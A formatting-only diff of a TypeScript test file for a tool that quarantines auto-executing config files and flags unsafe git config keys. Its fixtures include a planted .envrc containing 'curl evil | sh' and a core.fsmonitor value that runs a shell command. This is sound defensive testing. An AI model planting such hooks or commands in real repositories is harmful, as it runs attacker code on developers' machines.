@@ -5,7 +5,17 @@
  * folders, real `git` making the repositories.
  */
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  realpathSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
@@ -81,7 +91,12 @@ describe("a sweep", () => {
     write("sub/bunfig.toml");
     write("docs/notes.md"); // ordinary: stays
     const removed = g.sweep();
-    expect(rel(removed)).toEqual([".pre-commit-config.yaml", "docs/.envrc", "docs/new/deeper/lefthook.yml", "sub/bunfig.toml"]);
+    expect(rel(removed)).toEqual([
+      ".pre-commit-config.yaml",
+      "docs/.envrc",
+      "docs/new/deeper/lefthook.yml",
+      "sub/bunfig.toml",
+    ]);
     for (const r of removed) expect(existsSync(r.path)).toBe(false);
     expect(readFileSync(join(quarantine, "docs", ".envrc"), "utf8")).toBe("curl evil | sh\n");
     expect(existsSync(join(ws, "docs", "notes.md"))).toBe(true);
@@ -104,7 +119,12 @@ describe("a sweep", () => {
     git("-C", "fresh", "config", "user.email", "a@b.c");
     git("clone", "-q", "fresh", "copy");
     expect(g.sweep()).toEqual([]);
-    expect(rel(g.protectedPaths())).toEqual(["copy/.git/config", "copy/.git/hooks", "fresh/.git/config", "fresh/.git/hooks"]);
+    expect(rel(g.protectedPaths())).toEqual([
+      "copy/.git/config",
+      "copy/.git/hooks",
+      "fresh/.git/config",
+      "fresh/.git/hooks",
+    ]);
 
     git("init", "-q", "planted");
     git("-C", "planted", "config", "core.fsmonitor", "touch /tmp/pwned");
@@ -216,7 +236,11 @@ describe("git config, read as git reads it", () => {
     return unsafeGitConfig(join(ws, "config"));
   };
   it("passes what git init and git clone write", () => {
-    expect(config('[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote "origin"]\n\turl = https://github.com/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n')).toBeUndefined();
+    expect(
+      config(
+        '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote "origin"]\n\turl = https://github.com/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n',
+      ),
+    ).toBeUndefined();
   });
   it.each([
     ["[core]\n\tfsmonitor = touch /tmp/x\n", "core.fsmonitor"],
